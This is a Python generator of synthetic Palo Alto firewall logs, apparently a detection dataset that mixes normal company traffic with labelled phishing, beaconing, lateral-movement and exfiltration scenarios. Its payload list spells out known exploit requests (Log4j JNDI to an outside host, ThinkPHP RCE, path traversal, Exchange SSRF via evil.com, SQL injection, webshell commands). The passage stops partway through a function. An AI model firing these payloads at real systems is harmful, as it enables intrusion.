"""Traffic, threat, system, configuration and GlobalProtect lines of two Palo Alto firewalls of a company.

Daily work: browsing, servers, administrators, backups, what the internet tries and is denied, addresses that are categorised, false
alarms, VPN, changes of policy. Attacks: a phishing page and what it loads, beacons, a scan and movement inside, data sent out, names as a
channel, known holes, guessed VPN passwords until one fits, and the firewall itself. It is not training material: it was written by a hand
that did not know the training scenarios, and its events are not looked at by whoever decides on rules, scenarios or features.
"""
from __future__ import annotations

from typing import Optional

from .people import FIRST_NAMES, LAST_NAMES
from .site import Renumber, Site, epoch, syslog_time, utc

START = epoch(2023, 9, 11)
DAYS = 5
SER = ["013201020735", "013201020741"]
FW = ["pa-edge-01", "pa-edge-02"]


def fmt(at: float):
    return utc(at).strftime("%Y/%m/%d %H:%M:%S")


SRV = {"dc01": "10.20.1.10", "dc02": "10.20.1.11", "file01": "10.20.1.20", "sql01": "10.20.1.31", "print": "10.20.1.40",
       "exch": "10.20.2.15", "web": "10.30.5.20", "vpn": "203.0.113.4", "bkp": "10.20.1.60", "jump": "10.20.1.70", "scan": "10.20.1.99",
       "mon": "10.20.1.80", "erp": "10.20.1.33"}
CC = ["United States", "Germany", "Ireland", "Netherlands", "France", "United Kingdom", "Singapore", "Brazil", "China",
      "Russian Federation", "Vietnam", "India", "Romania", "Canada"]


def header(at: float, i, s) -> str:
    return f"{syslog_time(at)} {FW[i]} "


IF = {"trust": "ethernet1/2", "untrust": "ethernet1/1", "servers": "ethernet1/3", "dmz": "ethernet1/4", "guest": "ethernet1/5",
      "vpn": "tunnel.1"}


def zone(ip):
    return "servers" if ip.startswith(("10.20.1.",
                                       "10.20.2.")) else "dmz" if ip.startswith("10.30.") else "guest" if ip.startswith("172.16.") else "vpn" if ip.startswith("10.40.") else "trust" if ip.startswith("10.") else "untrust"


WEB = [("teams.microsoft.com", "ms-teams", "52.112"), ("outlook.office365.com", "ms-office365-base", "40.97"),
       ("update.googleapis.com", "google-update", "142.250"), ("www.google.com", "google-base", "142.250"),
       ("fonts.gstatic.com", "google-base", "142.251"), ("slack.com", "slack-base", "3.68"), ("dropbox.com", "dropbox-base", "162.125"),
       ("zoom.us", "zoom-meeting", "170.114"), ("github.com", "github-base", "140.82"), ("www.linkedin.com", "linkedin-base",
    "108.174"), ("login.salesforce.com", "salesforce-base", "85.222"), ("s3.amazonaws.com", "amazon-aws-console", "52.217"),
       ("ocsp.digicert.com", "ocsp", "93.184"), ("download.windowsupdate.com", "ms-update", "8.247"),
       ("www.heise.de", "web-browsing", "193.99"), ("cdn.jsdelivr.net", "web-browsing", "151.101"),
       ("spotify.com", "spotify", "35.186"), ("whatsapp.net", "whatsapp-base", "157.240"), ("facebook.com", "facebook-base", "157.240"),
       ("adobe.io", "adobe-cloud", "52.85"), ("mega.nz", "mega", "66.203"), ("anydesk.com", "anydesk", "195.181"),
       ("wetransfer.com", "wetransfer-base", "13.224"), ("pastebin.com", "pastebin", "104.20"), ("doubleclick.net", "google-base",
    "142.250")]
UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36"


def day_hour(d, h):
    return START + d * 86400 + h * 3600


C2 = ["188.114.97.23", "45.77.65.211", "194.165.16.98"]
DOM = ["cdn-msupdatesvc.com", "docs-sharepoint-view.com", "staticfonts-edge.net"]
PAY = [("web/api/%24%7bjndi:ldap://45.77.65.211:1389/a%7d", "Apache Log4j Remote Code Execution Vulnerability(91991)", "code-execution",
        "critical"),
       (r"portal.corp.example/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
        "ThinkPHP Remote Code Execution Vulnerability(54825)", "code-execution", "critical"),
       ("portal.corp.example/login.php?user=admin'+or+1=1--", "HTTP SQL Injection Attempt(58005)", "sql-injection", "medium"),
       ("portal.corp.example/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "Apache HTTP Server Path Traversal Vulnerability(91752)", "info-leak",
        "critical"), ("203.0.113.5/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
                      "Fortinet FortiOS Directory Traversal Vulnerability(56365)", "info-leak", "high"),
       ("portal.corp.example/.env", "Dot Env Sensitive Information Disclosure(94113)", "info-leak", "medium"),
       ("portal.corp.example/autodiscover/autodiscover.json?@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com",
        "Microsoft Exchange Server SSRF Vulnerability(91589)", "code-execution", "critical"),
       ("portal.corp.example/wp-content/uploads/up.php?cmd=whoami", "Generic PHP Webshell File Detection(37817)", "code-execution",
        "high")]


class PaloaltoCsv(Site):
    """Two Palo Alto firewalls, as CSV."""

    name = "paloalto_csv"
    host = "pa-edge-01"
    sourcetype = "pan:log"
    seed = 1717
    renumbered = (Renumber(pattern=r"(,)(7003\d{6})(,)", start=7003112345, step=30),)

    def build(self) -> None:
        self.prepare()
        self.traffic_of_people()
        self.administrators_and_backups()
        self.from_outside()
        self.addresses()
        self.firewall_itself()
        self.vpn()
        self.phishing_and_beacons()
        self.movement()
        self.data_out()
        self.known_holes()
        self.vpn_guessed()
        self.taken_over()

    def sid(self):
        return self.rng.randint(20000, 2097151)

    def ID(self):
        return self.uuid()

    def loc(self, ip):
        if ip.startswith(("10.", "172.16.")):
            return "10.0.0.0-10.255.255.255" if ip[:3] == "10." else "172.16.0.0-172.31.255.255"
        if ip not in self.current_loc:
            self.current_loc[ip] = self.rng.choices(CC, [30, 8, 8, 7, 4, 6, 4, 2, 3, 2, 1, 2, 1, 2])[0]
        return self.current_loc[ip]

    def traffic(self, at: float, src, dst, dp, app, rule, act: str = "allow", by=None, account: str = "", proto: str = "tcp", sub=None,
                end=None, dur=None, cat: str = "any", label: int = 0, group: Optional[str] = None, technique: Optional[str] = None, sp=None,
                duser: str = "") -> None:
        i = 0 if hash(src.split(".")[-1]) % 3 or 1 else 1
        i = int(src.split(".")[-1]) % 5 == 0
        self.serial += self.rng.randint(1, 40)
        a, b = by if by else (int(self.rng.lognormvariate(7.2, 1.1)), int(self.rng.lognormvariate(8.6, 1.7)))
        if act != "allow":
            b = 0
            a = self.rng.choice([60, 62, 66, 74, 78, 120, 132])
        sub = sub or ("end" if act == "allow" else "drop" if act != "deny" else "deny")
        end = end or (self.weighted([("tcp-fin", 60), ("aged-out", 14), ("tcp-rst-from-client", 14), ("tcp-rst-from-server", 9),
                                     ("threat", 0.5)]) if proto == "tcp" and act == "allow" else "aged-out" if act == "allow"
                      else "policy-deny")
        ps = max(1, a // self.rng.randint(80, 500))
        pr = 0 if act != "allow" else max(1, b // self.rng.randint(300, 1300))
        dur = dur if dur is not None else int(self.rng.lognormvariate(2.2, 1.6)) if act == "allow" else 0
        zs, zd = (zone(src), zone(dst))
        nat = zd == "untrust" and zs != "untrust" and (act == "allow")
        spt = sp or self.rng.randint(49152, 65535) if zs != "untrust" else self.rng.randint(1024, 65500)
        f = ["1", fmt(at), SER[i], "TRAFFIC", sub, "2561", fmt(at), src, dst, "203.0.113.2" if nat else "0.0.0.0", dst if nat
             else "0.0.0.0", rule, account, duser, app, "vsys1", zs, zd, IF[zs], IF[zd] if act == "allow" else "",
             self.weighted([("Forward-SIEM", 9), ("", 0.2)]), fmt(at), str(self.sid() if act == "allow" else 0), "1", str(spt), str(dp),
             str(self.rng.randint(1024, 65000)) if nat else "0", str(dp) if nat else "0", "0x400053" if nat
             else "0x1c" if act == "allow" else "0x0", proto, act, str(a + b), str(a), str(b), str(ps + pr),
             fmt(at - dur - self.rng.choice([0, 1, 15])), str(dur), cat, "0", str(self.serial), "0x8000000000000000", self.loc(src),
             self.loc(dst), "0", str(ps), str(pr), end, "31", "12", "0", "0", "", FW[i], "from-policy", "", "", "0", "", "0", "", "N/A",
             "0", "0", "0", "0", self.ru.get(rule, self.uuid()), "0", "0", "", "", "", "", "", "", ""]
        self.add(at, header(at, i, 0) + ",".join(f), label, group, technique, FW[i])

    def threat(self, at: float, src, dst, dp, app, rule, sub, act, misc, tid, cat, sev, dirn, account: str = "", agent: str = "",
               ref: str = "", label: int = 0, group: Optional[str] = None, technique: Optional[str] = None, method: str = "", ct: str = "",
               ft: str = "", dig: str = "") -> None:
        i = int(src.split(".")[-1]) % 5 == 0
        self.serial += self.rng.randint(1, 40)
        zs, zd = (zone(src), zone(dst))
        nat = zd == "untrust"
        f = ["1", fmt(at), SER[i], "THREAT", sub, "2561", fmt(at), src, dst, "203.0.113.2" if nat else "0.0.0.0", dst if nat
             else "0.0.0.0", rule, account, "", app, "vsys1", zs, zd, IF[zs], IF[zd], "Forward-SIEM", fmt(at), str(self.sid()), "1",
             str(self.rng.randint(49152, 65535)), str(dp), str(self.rng.randint(1024, 65000)) if nat else "0", str(dp) if nat else "0",
             "0x40b000" if nat else "0x2000", "udp" if app == "dns" else "tcp", act, f"\"{misc}\"" if misc else "", tid, cat, sev, dirn,
             str(self.serial), "0x8000000000000000", self.loc(src), self.loc(dst), "0", ct, "0", dig, "", "0" if sub != "url"
             else str(self.rng.randint(1, 4)), f"\"{agent}\"" if agent else "", ft, "", f"\"{ref}\"" if ref else "", "", "", "", "0",
             "31", "12", "0", "0", "", FW[i], "", "", "", method, "0", "", "0", fmt(at), "N/A",
             self.weighted([("unknown", 3), ("AppThreat-8755-8300", 1)]) if sub != "url" else "N/A", "AppThreat-8755-8300", "0x0", "0",
             "4294967295", "",
             f"\"{self.weighted([('business-and-economy,low-risk', 3), ('computer-and-internet-info,low-risk', 3)])}\"" if sub == "url"
             else "", self.ru.get(rule, self.uuid()), "0"]
        self.add(at, header(at, i, 0) + ",".join(f), label, group, technique, FW[i])

    def system_line(self, at: float, sub, ev, obj, sev, desc, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
                    i: int = 0) -> None:
        self.serial += self.rng.randint(1, 40)
        self.add(at, header(at, i, 0) + ",".join(["1", fmt(at), SER[i], "SYSTEM", sub, "2561", fmt(at), "", ev, obj, "0", "0",
            "general", sev, f"\"{desc}\"", str(self.serial), "0x0", "0", "0", "0", "0", "", FW[i], "0", "0",
            utc(at).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+00:00"]), label, group, technique, FW[i])

    def configuration(self, at: float, host: str, cmd, adm, cl, res, path: str, label: int = 0, group: Optional[str] = None,
                      technique: Optional[str] = None) -> None:
        self.serial += 9
        self.add(at, header(at, 0, 0) + ",".join(["1", fmt(at), SER[0], "CONFIG", "0", "2561", fmt(at), host, "", cmd, adm, cl, res,
            path, str(self.serial), "0x0", "0", "0", "0", "0", "", FW[0], "0", "",
            '"{}"'.format(self.choice(["", f"CHG{self.rng.randint(1, 99999):07}"]))]), label, group, technique, FW[0])

    def global_protect(self, at: float, ev, stage, auth, account, ip, status, mach, err: str = "", label: int = 0,
                       group: Optional[str] = None, technique: Optional[str] = None, os_: str = "Windows", cc: str = "US", cv: str = "6.1.2",
                       prv: str = "0.0.0.0") -> None:
        self.serial += 3
        self.add(at, header(at, 0, 0) + ",".join(["1", fmt(at), SER[0], "GLOBALPROTECT", "0", "2561", fmt(at), "vsys1", ev, stage, auth,
            "", account, cc, mach, ip, "0.0.0.0", prv, "0.0.0.0", self.uuid(), "", cv, os_,
            f"\"{self.weighted({'Microsoft Windows 10 Pro , 64-bit': 5, 'Microsoft Windows 11 Enterprise , 64-bit': 2})}\"" if os_ == "Windows"
            else '"Apple Mac OS X 13.5.2"', "1", "", "", f"\"{err}\"", status, "HQ",
            f"{self.rng.choice([0, 0, self.rng.randint(20, 40000)])}", "", "0", "gp-gw-hq", str(self.serial), "0x0",
            utc(at).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "+00:00", "", "", "", "", "", "31", "12", "0", "0", "", FW[0], "1"]), label,
                 group, technique, FW[0])

    def wip(self, w):
        return self.dip.setdefault((w[0], self.rng.randrange(4)), self.address(w[2]))

    def prepare(self) -> None:
        """Who and what is there."""
        self.serial = 7003112345
        self.users = [f"corp\\{self.choice(FIRST_NAMES)}.{self.choice(LAST_NAMES)}" for _ in range(40)]
        self.ws = {user: f"10.20.{self.rng.choice([10, 11, 12, 14])}.{self.rng.randint(20, 240)}" for user in self.users}
        self.ru = {n: self.uuid() for n in ["allow-web-out", "allow-dns", "internal-srv", "allow-m365", "guest-out", "dmz-in-web",
                                            "vpn-to-int", "it-admin", "interzone-default", "intrazone-default", "backup",
                                            "allow-any-out-servers", "block-bad-countries", "voip", "deny-quic"]}
        self.current_loc = {}
        self.dip = {}

    def traffic_of_people(self) -> None:
        """Browsing and servers."""
        for _ in range(760):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            w = self.rng.choices(WEB, [12, 14, 5, 10, 4, 6, 2, 6, 3, 3, 4, 4, 5, 6, 4, 4, 3, 3, 4, 3, 0.4, 0.5, 0.8, 0.4, 5])[0]
            q = self.rng.random() < 0.12
            if q:
                self.traffic(at, self.ws[user], self.wip(w), 443, "quic", "deny-quic", "deny", account=user, proto="udp",
                             end="policy-deny", sub="deny")
            else:
                self.traffic(at, self.ws[user], self.wip(w), 80 if w[1] in ("ocsp", "ms-update") else 443,
                             self.weighted([(w[1], 8), ("ssl", 3)]), "allow-m365" if "ms-" in w[1] else "allow-web-out", account=user,
                             by=None if self.rng.random() < 0.95 else (int(self.rng.lognormvariate(15, 1.3)),
                    int(self.rng.lognormvariate(11, 1))), cat=self.choice(["any", "computer-and-internet-info", "business-and-economy",
                    "web-advertisements", "online-storage-and-backup"]))
        for _ in range(260):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            dice = self.rng.choice([("dc01", 53, "dns"), ("dc02", 53, "dns"), ("dc01", 88, "kerberos"), ("dc02", 389, "ldap"),
                                    ("file01", 445, "ms-ds-smbv3"), ("file01", 445, "ms-ds-smbv2"), ("print", 9100, "hp-jetdirect"),
                                    ("erp", 443, "ssl"), ("sql01", 1433, "mssql-db"), ("dc01", 135, "msrpc-base"),
                                    ("exch", 443, "ms-exchange"), ("dc01", 123, "ntp")])
            self.traffic(at, self.ws[user], SRV[dice[0]], dice[1], dice[2], "internal-srv", account=user,
                         proto="udp" if dice[1] in (53, 123) else "tcp",
                         by=(self.rng.randint(70, 140), self.rng.randint(100, 400)) if dice[1] in (53, 123) else None)

    def administrators_and_backups(self) -> None:
        """Administrators, and backups at night."""
        for _ in range(70):
            at = self.moment(START, DAYS)
            a = self.rng.choice(self.users[:4])
            dice = self.rng.choice([("dc01", 3389, "ms-rdp"), ("file01", 3389, "ms-rdp"), ("sql01", 3389, "ms-rdp"), ("web", 22, "ssh"),
                                    ("mon", 22, "ssh"), ("dc01", 5985, "winrm"), ("exch", 5986, "ms-winrm"),
                                    ("file01", 445, "ms-ds-smbv3"), ("jump", 22, "ssh"), ("bkp", 443, "veeam-backup")])
            self.traffic(at, self.rng.choice([self.ws[a], SRV["jump"]]), SRV[dice[0]], dice[1], dice[2], "it-admin", account=a,
                         by=(int(self.rng.lognormvariate(11, 1.5)), int(self.rng.lognormvariate(13, 1.5))),
                         dur=self.rng.randint(30, 9000))
        for d in range(DAYS):
            for s in ["dc01", "file01", "sql01", "exch", "web", "erp"]:
                for _ in range(2):
                    self.traffic(START + d * 86400 + 3600 * 22 + self.rng.random() * 7000, SRV["bkp"], SRV[s],
                                 self.rng.choice([6160, 6162, 2500, 445]), "veeam-backup", "backup", account=r"corp\svc_veeam",
                                 by=(int(self.rng.lognormvariate(12, 1)), int(self.rng.lognormvariate(20, 1.2))),
                                 dur=self.rng.randint(300, 6000))
            for _ in range(14):
                at = START + d * 86400 + 4 * 3600 + self.rng.random() * 1500
                x = self.address("10.20.12")
                self.traffic(at, SRV["scan"], x, self.rng.choice([22, 80, 135, 139, 443, 445, 3389, 5985, 8080, 161, 623, 1433]),
                             self.rng.choice(["incomplete", "not-applicable", "ms-rdp", "ssl", "unknown-tcp", "insufficient-data"]),
                             "it-admin", act="allow", by=(self.rng.randint(60, 900), self.rng.randint(0, 900)),
                             account=r"corp\svc_nessus", end=self.rng.choice(["aged-out", "tcp-rst-from-server"]),
                             dur=self.rng.randint(0, 6))

    def from_outside(self) -> None:
        """What the internet tries, and what it may."""
        for _ in range(170):
            at = START + self.rng.random() * DAYS * 86400
            self.traffic(at, self.address(), f"203.0.113.{self.rng.randint(1, 14)}",
                         self.rng.choices([23, 22, 445, 3389, 8080, 80, 443, 5060, 6379, 1433, self.rng.randint(1, 65535)],
                                          [9, 5, 5, 4, 3, 3, 3, 4, 2, 2, 14])[0], "not-applicable",
                         "interzone-default" if self.rng.random() < 0.7 else "block-bad-countries", "drop",
                         proto=self.weighted([("tcp", 9), ("udp", 2)]))
        for _ in range(150):
            at = self.moment(START, DAYS)
            dice = self.rng.randrange(4)
            if dice == 0:
                self.traffic(at, self.address(), SRV["web"], 443, self.weighted([("ssl", 4), ("web-browsing", 3)]), "dmz-in-web")
            elif dice == 1:
                w = self.choice(WEB)
                self.traffic(at, self.address("172.16.50"), self.wip(w), 443,
                             self.rng.choice([w[1], "ssl", "youtube-base", "tiktok-base", "bittorrent", "instagram-base",
                                              "unknown-udp"]), "guest-out")
            elif dice == 2:
                self.traffic(at, SRV[self.choice(["dc01", "exch", "erp", "web", "sql01", "mon"])],
                             self.address(self.choice(["8.8.8", "1.1.1", "20.190", "13.107", "151.101"])),
                             self.choice([53, 443, 443, 80, 123]),
                             self.choice(["dns", "ssl", "ms-update", "ntp", "web-browsing", "apt-get", "windows-azure-base"]),
                             "allow-any-out-servers")
            else:
                self.traffic(at, SRV["mon"], SRV[self.choice(list(SRV))], self.choice([161, 161, 443, 0]),
                             self.choice(["snmp-base", "ping", "ssl"]), "it-admin", proto=self.choice(["udp", "icmp"]), by=(98, 98),
                             dur=0)

    def addresses(self) -> None:
        """Addresses asked for, false alarms, files."""
        for _ in range(230):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            w = self.choice(WEB)
            p = self.rng.choice(["/", "/api/v2/users/me",
                                 f"/search?q={self.choice(['lunch+menu', 'powershell+get-childitem', 'how+to+reset+excel', 'mimikatz+definition', 'flug+lissabon'])}",
                                 f"/static/js/main.{self.hex(8)}.js", f"/pagead/ads?client=ca-pub-{self.digits(16)}",
                                 f"/raw/{self.token(8)}", f"/file/d/{self.token(28)}/view", f"/v1/telemetry?e={self.hex(32)}",
                                 "/owa/auth/logon.aspx?url=https%3a%2f%2foutlook%2f",
                                 f"/msdownload/update/software/secu/2023/09/windows10.0-kb5030211-x64_{self.hex(40)}.cab"])
            self.threat(at, self.ws[user], self.wip(w), 443, w[1], "allow-web-out", "url",
                        self.weighted([("alert", 9), ("block-url", 1), ("block-continue", 0.3)]), w[0] + p, "(9999)",
                        self.choice(["business-and-economy", "computer-and-internet-info", "web-advertisements", "search-engines",
                                     "online-storage-and-backup", "social-networking", "streaming-media", "content-delivery-networks",
                                     "parked", "unknown", "newly-registered-domain", "gambling"]), "informational", "client-to-server",
                        user, self.weighted([(UA, 8), ("Microsoft-Delivery-Optimization/10.0", 1), ("", 2)]),
                        method=self.weighted({"get": 7, "post": 2, "connect": 1}), ct="text/html")
        for _ in range(40):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            dice = self.rng.choice([("HTTP OPTIONS Method(30520)", "info-leak", "informational", "web-browsing", "alert"),
                                    ("Microsoft RPC Endpoint Mapper Detection(30845)", "info-leak", "informational", "msrpc-base",
                                     "alert"), ("SIP Register Request Attempt(33592)", "info-leak", "informational", "sip", "alert"),
                                    ("Non-RFC Compliant DNS Traffic on Port 53/5353(56505)", "protocol-anomaly", "informational", "dns",
                                     "alert"), ("SMB: User Password Brute Force Attempt(40004)", "brute-force", "high", "ms-ds-smbv3",
                                                "alert"), ("Suspicious User-Agent Strings(10013)", "spyware", "low", "web-browsing",
                "alert")])
            self.threat(at, self.ws[user], SRV[self.choice(["dc01", "file01"])], self.choice([445, 135, 53]), dice[3], "internal-srv",
                        "vulnerability" if "spy" not in dice[1] else "spyware", dice[4], "", dice[0], dice[1], dice[2],
                        "client-to-server", user)
        for _ in range(30):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            fn = self.rng.choice([f"Rechnung_{self.digits(6)}.pdf", "setup.exe", "TeamsSetup_c_w_.exe", "Q3 budget.xlsx",
                                  "invoice.docm", "logo.png", "putty-64bit-0.79-installer.msi", "report.zip", "driver.cab"])
            self.threat(at, self.ws[user], self.address(), 443, "web-browsing", "allow-web-out", "file", "alert", fn,
                        self.choice(["Microsoft PE File(52060)", "Adobe Portable Document Format (PDF)(52021)", "ZIP(52003)",
                                     "Microsoft Word 2007(52010)", "Windows Executable (EXE)(52020)"]), "any", "low",
                        "server-to-client", user)

    def firewall_itself(self) -> None:
        """What the firewalls say of themselves."""
        for _ in range(110):
            at = self.moment(START, DAYS)
            i = int(self.rng.random() < 0.3)
            user = self.choice(self.users)
            dice = self.rng.randrange(9)
            ip = self.address()
            if dice == 0:
                self.system_line(at, "general", "general", "", "informational",
                                 self.choice(["User admin logged in via Web from 10.20.1.70 using https",
                                              "User netadm logged out via CLI from 10.20.1.70",
                                              "WildFire update job succeeded  for user Auto update agent",
                                              "Content update job succeeded  for user Auto update agent",
                                              "Connection to Update server: updates.paloaltonetworks.com completed successfully, initiated by 10.20.1.2"]),
                                 i=i)
            elif dice == 1:
                self.system_line(at, "auth", "auth-fail", "", "medium",
                                 "failed authentication for user 'netadm'.  Reason: Invalid username/password. From: 10.20.1.70.", i=i)
            elif dice == 2:
                self.system_line(at, "dhcp", "lease-start", "ethernet1/5", "informational",
                                 f"DHCP lease started ip 172.16.50.{self.rng.randint(2, 250)} --> mac {':'.join(self.hex(2) for _ in range(6))}"
                                 f" - hostname {self.choice(['iPhone', 'Galaxy-A52', 'DESKTOP-' + self.key_text(7), 'android-' + self.hex(12)])}"
                                 ", interface ethernet1/5", i=i)
            elif dice == 3:
                self.system_line(at, "userid", "connect-agent-failure", "", "high",
                                 "User-ID Agent dc02-uia(vsys1): Error: Connection refused to 10.20.1.11(10.20.1.11): 5007", i=i)
            elif dice == 4:
                self.system_line(at, "vpn", "ike-nego-p2-succ", "site-berlin", "informational",
                                 "IKE phase-2 negotiation is succeeded as initiator, quick mode. Established SA: 203.0.113.2[500]-198.51.100.7[500] message id:0x"
                                 f"{self.hex_upper(8)}, SPI:0x{self.hex_upper(8)}/0x{self.hex_upper(8)}.", i=i)
            elif dice == 5:
                self.system_line(at, "ntpd", "general", "", "informational", "NTP sync to server 0.pool.ntp.org", i=i)
            elif dice == 6:
                self.system_line(at, "globalprotect", "globalprotectgateway-auth-succ", "gp-gw-hq", "informational",
                                 "GlobalProtect gateway user authentication succeeded. Login from: {}, Source region: DE, User name: {}, Auth type: SAML, Client OS version: Microsoft Windows 10 Pro , 64-bit.".format(ip,
                    user.split("\\")[1]), i=0)
            elif dice == 7:
                self.system_line(at, "port", "link-change", "ethernet1/5", "informational",
                                 f"Port ethernet1/5: {self.choice(['Down 1Gb/s-full duplex', 'Up   1Gb/s-full duplex'])}", i=i)
            else:
                self.system_line(at, "ras", "rasmgr-config-p2-success", "", "informational",
                                 "RASMGR daemon configuration load phase-2 succeeded.", i=i)

    def vpn(self) -> None:
        """VPN, and changes of policy."""
        for _ in range(60):
            user = self.choice(self.users)
            at = self.moment(START, DAYS)
            ip = self.address(self.choice(["91.12", "84.171", "2.203", "79.203", "78.55"]))
            m = "LT-" + user.split(".")[-1].upper()[:8]
            if self.rng.random() < 0.25:
                self.global_protect(at - 20, "gateway-auth", "login", "SAML", user.split("\\")[1], ip, "failure", m,
                                    self.choice(["Authentication failed: Invalid username or password", "Authentication timed out",
                    "Client cert not present"]), cc="DE")
            self.global_protect(at, "gateway-auth", "login", "SAML", user.split("\\")[1], ip, "success", m, cc="DE")
            self.global_protect(at + 3, "gateway-connected", "connected", "", user.split("\\")[1], ip, "success", m, cc="DE",
                                prv=self.address("10.40.1"))
            if self.rng.random() < 0.4:
                self.traffic(at + 60, self.address("10.40.1"), SRV[self.choice(["file01", "erp", "dc01", "exch"])],
                             self.choice([445, 443, 3389]), self.choice(["ms-ds-smbv3", "ssl", "ms-rdp"]), "vpn-to-int", account=user)
        for _ in range(22):
            at = self.moment(START, DAYS)
            self.configuration(at, "10.20.1.70", self.choice(["set", "edit", "commit", "move", "rename"]),
                               self.choice(["admin", "netadm", "kweber"]), self.choice(["Web", "CLI"]),
                               self.weighted([("Succeeded", 9), ("Failed", 1)]),
                               self.choice(["vsys  vsys1 rulebase security rules  allow-web-out",
                                            f"vsys  vsys1 address  host-{self.hex(4)}", "vsys  vsys1 profiles url-filtering  corp-url",
                                            "", "vsys  vsys1 rulebase nat rules  out-nat", "deviceconfig system",
                                            "vsys  vsys1 rulebase security rules  it-admin", "mgt-config users  kweber password"]))

    def phishing_and_beacons(self) -> None:
        """A phishing page, what it loads, beacons."""
        self.vic = self.users[7]
        self.v = self.ws[self.vic]
        self.vic2 = self.users[13]
        self.v2 = self.ws[self.vic2]
        at = day_hour(0, 9.3)
        self.threat(at, self.v, C2[1], 443, "ssl", "allow-web-out", "url", "alert", DOM[1] + f"/s/{self.token(10)}/Invoice_4471.html",
                    "(9999)", "newly-registered-domain", "informational", "client-to-server", self.vic, UA, label=1, group="phish",
                    technique="T1566.002", method="get")
        self.threat(at + 20, self.v, C2[1], 443, "web-browsing", "allow-web-out", "file", "alert", "Invoice_4471.iso", "ISO(52278)",
                    "any", "low", "server-to-client", self.vic, label=1, group="phish", technique="T1204.002")
        for i in range(46):
            at = day_hour(0, 9.6) + i * self.rng.uniform(4200, 7000)
            x = i % 2
            self.traffic(at, [self.v, self.v2][x], C2[x], 443, self.weighted([("ssl", 4), ("web-browsing", 2), ("unknown-tcp", 0.4)]),
                         "allow-web-out", account=[self.vic, self.vic2][x],
                         by=(self.rng.randint(900, 1100), self.rng.randint(3400, 3900)) if self.rng.random() < 0.8
                         else (self.rng.randint(5000, 90000), self.rng.randint(4000, 400000)),
                         cat=self.weighted([("newly-registered-domain", 2), ("any", 3), ("computer-and-internet-info", 2)]),
                         end="tcp-fin", dur=self.rng.randint(1, 3), label=1, group="c2_beacon", technique="T1071.001")
        for i in range(14):
            self.threat(day_hour(0, 9.6) + i * self.rng.uniform(9000, 20000), self.v, C2[0], 80, "web-browsing", "allow-web-out", "url",
                        "alert", DOM[0] + self.choice(["/jquery-3.3.1.min.js", f"/submit.php?id={self.digits(8)}",
                f"/__utm.gif?utmac=UA-{self.digits(7)}-2&utmcc=__utma%3D{self.token(60)}", "/ga.js",
                f"/api/v3/check?k={self.hex(24)}"]), "(9999)",
                        self.choice(["unknown", "newly-registered-domain", "computer-and-internet-info"]), "informational",
                        "client-to-server", self.vic,
                        self.choice([UA, "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
                                     "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko"]), label=1,
                        group="c2_beacon", technique="T1071.001", method=self.choice(["get", "post"]))

    def movement(self) -> None:
        """A scan, and movement inside."""
        for i in range(45):
            at = day_hour(1, 11.2) + i * self.rng.uniform(0.5, 20)
            p = self.rng.choice([445, 3389, 22, 5985, 135, 1433, 88, 389, 8080, 443, 5900])
            x = f"10.20.{self.rng.choice([1, 2, 10, 11])}.{self.rng.randint(1, 250)}"
            ok = self.rng.random() < 0.4
            self.traffic(at, self.v, x, p, self.rng.choice(["incomplete", "insufficient-data", "not-applicable"]) if not ok
                         else self.choice(["ms-ds-smbv3", "ms-rdp", "msrpc-base", "ldap", "unknown-tcp"]), "internal-srv" if ok
                         else "interzone-default", "allow" if ok else "drop", by=(self.rng.randint(60, 500), self.rng.randint(0, 700)),
                         account=self.vic, dur=self.rng.randint(0, 3), end="aged-out" if ok else "policy-deny", label=1, group="scan",
                         technique="T1046")
        for i in range(24):
            at = day_hour(1, 12) + i * self.rng.uniform(600, 9000)
            dice = self.rng.choice([("file01", 445, "ms-ds-smbv3"), ("dc01", 445, "ms-ds-smbv2"), ("dc01", 135, "msrpc-base"),
                                    ("sql01", 5985, "winrm"), ("sql01", 3389, "ms-rdp"), ("bkp", 3389, "ms-rdp"),
                                    ("dc01", 49667, "msrpc-base"), ("erp", 22, "ssh"), ("dc02", 389, "ldap")])
            self.traffic(at, self.rng.choice([self.v, self.v2, SRV["sql01"]]), SRV[dice[0]], dice[1], dice[2], "internal-srv",
                         account=self.rng.choice([self.vic, r"corp\svc_veeam", self.users[0]]),
                         by=(int(self.rng.lognormvariate(11, 1.5)), int(self.rng.lognormvariate(11, 1.5))), label=1, group="lateral",
                         technique="T1021")
        for i in range(10):
            at = day_hour(1, 13) + i * 900
            dice = self.rng.choice([("PsExec Remote Command Execution Detected(39264)", "code-execution", "medium"),
                                    ("SMB: User Password Brute Force Attempt(40004)", "brute-force", "high"),
                                    ("DCERPC DRSUAPI DsGetNCChanges Replication Request(57833)", "info-leak", "high"),
                                    ("Kerberos AS-REQ RC4 Downgrade Detected(91201)", "info-leak", "medium")])
            self.threat(at, self.v, SRV[self.choice(["dc01", "file01", "sql01"])], self.choice([445, 135]),
                        self.choice(["ms-ds-smbv3", "msrpc-base"]), "internal-srv", "vulnerability",
                        self.weighted([("alert", 3), ("reset-both", 1)]), "", dice[0], dice[1], dice[2], "client-to-server", self.vic,
                        label=1, group="lateral", technique="T1570")

    def data_out(self) -> None:
        """Data sent out, and names as a channel."""
        for _ in range(9):
            at = day_hour(2, self.rng.uniform(1, 23))
            w = self.rng.choice([("mega", "66.203.125.14"), ("ssl", "185.107.56.70"), ("ssh", "185.107.56.70"),
                                 ("dropbox-uploading", "162.125.66.18"), ("ftp", "185.107.56.70")])
